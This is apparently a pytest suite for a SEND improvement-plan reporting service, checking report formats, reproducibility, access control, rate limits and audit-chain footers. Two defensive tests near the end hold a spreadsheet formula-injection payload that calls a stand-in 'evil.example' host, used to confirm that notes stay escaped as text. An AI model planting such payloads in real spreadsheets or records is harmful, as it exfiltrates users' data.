"""The termly report on the demo story, over HTTP and from the command line: its figures are GraphQL's answers at
the same instant, in every format; it is reproducible; it lists the period's changes; its footer is the audit
chain's head that `send-records verify --as-at` finds."""

import csv
import io
import re
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime, timezone
from html.parser import HTMLParser

import httpx
import pytest
from openpyxl import Workbook, load_workbook
from pypdf import PdfReader

from tests.support import BIN, Server, environment, new_area, token

PLAN = """query($id: ID!, $asAt: DateTime) { plan(id: $id, asAt: $asAt) {
  progress { total notStarted inProgress completed cancelled overdue } priorityAreas { title rag }
  actions(first: 100) { edges { node { id title status rag dueOn originalDueOn rescheduleCount overdue latestNote
    ownerAgency { name } } } } } }"""


@pytest.fixture(scope="module")
def demo(tmp_path_factory, new_store):
    running = Server(tmp_path_factory.mktemp("report"), new_store()).start("--demo")
    auditor = token("AUDITOR")
    plans = {p["title"]: p["id"] for partnership in running.query("{ partnerships { plans { id title } } }", auditor)["partnerships"]
             for p in partnership["plans"]}
    running.plan = plans["Lancashire Written Statement of Action"]
    running.improvement = plans["SEND Partnership Improvement Plan 2019-2020"]
    yield running
    running.stop()


def report(server, plan, who, **params) -> httpx.Response:
    return httpx.get(f"http://127.0.0.1:{server.port}/reports/plans/{plan}", params=params,
                     headers={"Authorization": f"Bearer {who}"}, timeout=120)


class Tables(HTMLParser):
    """The cells of every table in an HTML document, row by row."""

    def __init__(self, text: str):
        super().__init__()
        self.tables, self.cell = [], None
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.tables.append([])
        elif tag == "tr":
            self.tables[-1].append([])
        elif tag in ("td", "th"):
            self.cell = ""

    def handle_data(self, data):
        if self.cell is not None:
            self.cell += data

    def handle_endtag(self, tag):
        if tag in ("td", "th"):
            self.tables[-1][-1].append(self.cell.strip())
            self.cell = None


def now() -> str:
    return datetime.now(timezone.utc).isoformat()


def test_every_format_tells_graphqls_answers_at_the_same_instant(demo):
    auditor, at = token("AUDITOR"), now()
    answer = demo.query(PLAN, auditor, id=demo.plan, asAt=at)["plan"]
    actions = {e["node"]["title"]: e["node"] for e in answer["actions"]["edges"]}
    progress = answer["progress"]

    rows = list(csv.DictReader(io.StringIO(report(demo, demo.plan, auditor, asAt=at, format="csv").text)))
    assert {r["Action"]: (r["Status"], r["RAG"] or None, r["Due on"], r["Originally due on"], int(r["Times rescheduled"]),
                          r["Overdue"] == "yes", r["Owner agency"]) for r in rows} == {
        title: (a["status"], a["rag"], a["dueOn"], a["originalDueOn"], a["rescheduleCount"], a["overdue"],
                a["ownerAgency"]["name"]) for title, a in actions.items()}
    assert any(a["rescheduleCount"] for a in actions.values())

    page = report(demo, demo.plan, auditor, asAt=at, format="html")
    assert page.headers["content-type"].startswith("text/html")
    status_table = Tables(page.text).tables[0]
    for area in answer["priorityAreas"]:
        heading = f"<h3>{area['title']}" + (f": {area['rag'].capitalize()}" if area["rag"] else "") + "</h3>"
        assert heading in page.text.replace("&#39;", "'")
    assert status_table[1] == [str(progress[k]) for k in ("notStarted", "inProgress", "completed", "cancelled", "total", "overdue")]

    book = load_workbook(io.BytesIO(report(demo, demo.plan, auditor, asAt=at, format="xlsx").content))
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
    assert (summary["Completed"], summary["Total"], summary["Overdue"]) == (progress["completed"], progress["total"], progress["overdue"])
    assert {row[1] for row in book["Actions"].iter_rows(min_row=2, values_only=True)} == set(actions)

    pdf = report(demo, demo.plan, auditor, asAt=at, format="pdf")
    assert pdf.headers["content-type"] == "application/pdf"
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.content)).pages)
    flat = re.sub(r"\s+", " ", text)
    assert all(re.sub(r"\s+", " ", title) in flat for title in actions)
    assert f"{round(100 * progress['completed'] / progress['total'])}% of the plan's {progress['total']} actions" in flat


def test_the_same_plan_and_instant_give_the_same_report(demo):
    auditor, at = token("AUDITOR"), now()
    for form in ("html", "csv", "pdf"):
        assert report(demo, demo.plan, auditor, asAt=at, format=form).content == \
            report(demo, demo.plan, auditor, asAt=at, format=form).content


def test_a_later_report_differs_by_exactly_the_changes_recorded_since(demo):
    auditor, lead = token("AUDITOR"), None
    plan = demo.query("query($id: ID!) { plan(id: $id) { partnership { id agencies { id name } } "
                      "actions(first: 100) { edges { node { id title status } } } } }", auditor, id=demo.improvement)["plan"]
    lead = token("PARTNERSHIP_LEAD", plan["partnership"]["id"])
    before = now()
    earlier = list(csv.DictReader(io.StringIO(report(demo, demo.improvement, auditor, asAt=before, format="csv").text)))
    action = plan["actions"]["edges"][0]["node"]
    demo.ok("startAction", {"actionId": action["id"], "effectiveOn": "2020-02-10"}, lead)
    demo.ok("rescheduleAction", {"actionId": action["id"], "dueOn": "2020-09-30", "reason": "Audit cycle moved"}, lead)
    added = demo.ok("addAction", {"planId": demo.improvement, "title": "Publish the audit findings to the forum",
                                  "ownerAgencyId": plan["partnership"]["agencies"][0]["id"], "dueOn": "2020-12-31",
                                  "effectiveOn": "2020-02-10"}, lead)
    after = now()
    later = list(csv.DictReader(io.StringIO(report(demo, demo.improvement, auditor, asAt=after, format="csv").text)))
    changed = {r["Action"] for r in later} ^ {r["Action"] for r in earlier} | {
        b["Action"] for a, b in zip(earlier, later) if a != b}
    assert changed == {action["title"], "Publish the audit findings to the forum"}

    book = load_workbook(io.BytesIO(report(demo, demo.improvement, auditor, asAt=after, since=before, format="xlsx").content))
    changes = [row[2:5] for row in book["Changes"].iter_rows(min_row=2, values_only=True)]
    assert [(title, what) for title, what, _ in changes] == [
        (action["title"], "started"), (action["title"], "rescheduled"), ("Publish the audit findings to the forum", "added")]
    assert added["event"]["actor"]["subject"] in changes[2][2]
    reasons = [row[5] for row in book["Changes"].iter_rows(min_row=2, values_only=True)]
    assert reasons[1] == "Audit cycle moved"


def test_a_reader_of_another_partnership_gets_not_found(demo):
    bcp = demo.query("{ partnerships { id name } }", token("AUDITOR"))["partnerships"]
    other = next(p["id"] for p in bcp if p["name"].startswith("BCP"))
    refused = report(demo, demo.plan, token("PARTNERSHIP_LEAD", other), format="csv")
    unknown = report(demo, "5e1f0000-0000-4000-8000-000000000000", token("AUDITOR"), format="csv")
    assert refused.status_code == unknown.status_code == 404 and refused.json() == unknown.json()
    assert report(demo, demo.plan, "not a token").status_code == 401
    assert report(demo, demo.plan, token("AUDITOR"), format="docx").status_code == 400
    before_everything = report(demo, demo.plan, token("AUDITOR"), asAt="0001-01-01T00:00:00Z", format="csv")
    assert before_everything.status_code == 404  # there was no such plan then
    codes = [answer.json()["errors"][0]["extensions"]["code"] for answer in (
        refused, before_everything, report(demo, demo.plan, "not a token"),
        report(demo, demo.plan, token("AUDITOR"), format="docx"), report(demo, demo.plan, token("AUDITOR"), asAt="soon"),
        report(demo, demo.plan, token("AUDITOR"), asAt="2025-01-01"))]
    assert codes == ["NOT_FOUND", "NOT_FOUND", "UNAUTHENTICATED", "BAD_USER_INPUT", "BAD_USER_INPUT", "BAD_USER_INPUT"]


def test_reports_are_made_apart_at_most_two_at_once_for_a_caller(demo):
    """A PDF is a second of the interpreter: it is made in the costly-read process, within the caller's share of
    it, as costly queries are (the serving process goes on answering everyone else meanwhile)."""
    caller, another, at = token("AUDITOR"), token("AUDITOR"), now()
    with ThreadPoolExecutor(7) as pool:
        answers = list(pool.map(lambda who: report(demo, demo.improvement, who, format="pdf", asAt=at), [caller] * 6 + [another]))
    mine, theirs = answers[:6], answers[6]
    turned_away = [a for a in mine if a.status_code == 429]
    assert turned_away and all(a.status_code == 200 for a in mine if a not in turned_away) and theirs.status_code == 200
    for answer in turned_away:
        error = answer.json()["errors"][0]
        assert error["extensions"]["code"] == "QUERY_TOO_COSTLY" and "at most 2 costly reads" in error["message"]
    assert len({a.content for a in mine + [theirs] if a.status_code == 200}) == 1  # the same report for each reader


def test_the_footer_is_the_chain_head_verify_finds_at_that_instant(demo):
    at = now()
    page = report(demo, demo.plan, token("AUDITOR"), asAt=at, format="html").text
    position, digest = re.search(r"Audit chain head at that instant: position (\d+), hash ([0-9a-f]{64})", page).groups()
    verified = subprocess.run([str(BIN), "verify", "--as-at", at], env=environment(demo.data_dir, demo.store),
                              capture_output=True, text=True, timeout=120)
    assert verified.returncode == 0, verified.stderr
    assert f"at position {position}, hash {digest}" in verified.stdout
    pages = PdfReader(io.BytesIO(report(demo, demo.plan, token("AUDITOR"), asAt=at, format="pdf").content)).pages
    for number, paper in enumerate(pages, 1):  # the paper's footer, on every page
        text = re.sub(r"\s+", " ", paper.extract_text())
        assert f"position {position}, hash {digest}" in text and f"page {number} of {len(pages)}" in text


def test_the_command_line_writes_the_same_report(demo, tmp_path):
    at = now()
    out = tmp_path / "report.csv"
    made = subprocess.run([str(BIN), "report", "--plan", demo.plan, "--as-at", at, "--format", "csv", "--out", str(out)],
                          env=environment(demo.data_dir, demo.store), capture_output=True, text=True, timeout=120)
    assert made.returncode == 0, made.stderr
    assert out.read_bytes() == report(demo, demo.plan, token("AUDITOR"), asAt=at, format="csv").content
    missing = subprocess.run([str(BIN), "report", "--plan", "5e1f0000-0000-4000-8000-000000000000"],
                             env=environment(demo.data_dir, demo.store), capture_output=True, text=True, timeout=120)
    assert missing.returncode == 2 and "no plan with id" in missing.stderr and "Traceback" not in missing.stderr


def test_a_serving_process_loads_the_renderers_with_its_first_report_not_at_start_up():
    """ReportLab, openpyxl (with numpy) and Jinja2 are the largest libraries the service uses; most processes never
    make a report."""
    loaded = subprocess.run([sys.executable, "-c", "import sys, service.app, service.cli; "
                             "print(sorted(m for m in ('reportlab', 'openpyxl', 'numpy', 'jinja2') if m in sys.modules))"],
                            capture_output=True, text=True, check=True)
    assert loaded.stdout.strip() == "[]"


@pytest.fixture
def fresh(tmp_path, new_store):
    server = Server(tmp_path, new_store()).start()
    yield server
    server.stop()


def test_the_longest_note_and_an_extreme_measure_lay_out_on_paper(fresh):
    area = new_area(fresh)
    words = ("The designated clinical officer reviewed every EHC plan issued late this term " * 200)[:10_000]
    fresh.ok("reportActionProgress", {"actionId": area.action, "note": words}, area.lead)
    metric = fresh.ok("defineMetric", {"partnershipId": area.partnership, "name": "Requests for an EHC needs assessment",
                                       "unit": "COUNT", "polarity": "LOWER_IS_BETTER", "target": 1e12},
                      area.lead, "metric { id }")["metric"]["id"]
    for period, end, value in [("Autumn term 2024", "2024-12-20", -1e12), ("Spring term 2025", "2025-04-04", 1e12)]:
        fresh.ok("recordMeasurement", {"metricId": metric, "period": period, "periodEnd": end, "value": value}, area.lead)
    too_large = fresh.mutate("recordMeasurement", {"metricId": metric, "period": "Summer term 2025",
                                                   "periodEnd": "2025-07-22", "value": 1e308}, area.lead)
    assert [e["code"] for e in too_large["userErrors"]] == ["INVALID"]
    answer = report(fresh, area.plan, area.lead, format="pdf")
    assert answer.status_code == 200, answer.text
    text = re.sub(r"\s+", " ", "".join(page.extract_text() for page in PdfReader(io.BytesIO(answer.content)).pages))
    assert text.count("reviewed every EHC plan") >= 100  # the note is all there, across pages
    assert "Spring term 2025: 1e+12" in text  # the chart's text alternative


def test_a_note_is_text_in_the_spreadsheets_never_a_formula(fresh):
    area = new_area(fresh)
    note = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    fresh.ok("reportActionProgress", {"actionId": area.action, "note": note}, area.lead)
    rows = list(csv.reader(io.StringIO(report(fresh, area.plan, area.lead, format="csv").text)))
    assert rows[1][rows[0].index("Latest note")] == "'" + note
    answer = report(fresh, area.plan, area.lead, format="xlsx")
    assert answer.status_code == 200
    cell = load_workbook(io.BytesIO(answer.content))["Actions"]["K2"]
    assert (cell.data_type, cell.value) == ("s", note)


def test_a_workbook_leaves_out_the_control_characters_older_records_may_hold():
    # (a change's text is refused with them now; events recorded before that may hold them, and the log is kept)
    from service.reports.formats import sheet

    book = Workbook()
    sheet(book.active, ["Latest note"], [['=HYPERLINK("http://evil.example/")\u0007 bell']])
    cell = book.active["A2"]
    assert (cell.data_type, cell.value) == ("s", '=HYPERLINK("http://evil.example/") bell')
